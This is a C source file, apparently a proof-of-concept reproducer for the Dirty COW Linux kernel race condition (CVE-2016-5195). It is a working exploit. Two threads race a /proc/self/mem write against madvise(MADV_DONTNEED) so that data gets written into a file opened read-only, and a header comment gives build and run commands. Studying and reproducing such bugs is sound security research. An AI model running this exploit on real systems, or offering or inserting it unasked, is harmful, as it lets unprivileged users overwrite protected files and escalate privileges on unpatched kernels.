// SPDX-License-Identifier: GPL-2.0-or-later
// One thread writes through /proc/self/mem to a private read-only mapping of a file, another gives the page away: on kernels
// from 2.6.22 to 4.8 the write may reach the file (CVE-2016-5195). What hunt is shown by traces/dirty-cow.strace.zst.
//   cc -pthread dirty_cow.c -o dirty_cow && echo original > file && ./dirty_cow file 40
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

static char *map;
static int rounds;

static void *write_mem(void *unused)
{
	int fd = open("/proc/self/mem", O_RDWR);

	for (int i = 0; i < rounds; i++)
		if (pwrite(fd, "changed!", 8, (off_t)(unsigned long)map) != 8)
			perror("pwrite");
	close(fd);
	return unused;
}

static void *give_away(void *unused)
{
	for (int i = 0; i < rounds; i++)
		madvise(map, 4096, MADV_DONTNEED);
	return unused;
}

int main(int argc, char **argv)
{
	pthread_t a, b;
	char now[9] = "";
	int fd;

	if (argc != 3 || (fd = open(argv[1], O_RDONLY)) < 0)
		return 2;
	rounds = atoi(argv[2]);
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	pthread_create(&a, NULL, write_mem, NULL);
	pthread_create(&b, NULL, give_away, NULL);
	pthread_join(a, NULL);
	pthread_join(b, NULL);
	printf("the file: %s\n", pread(fd, now, 8, 0) == 8 ? now : "?");
	return 0;
}
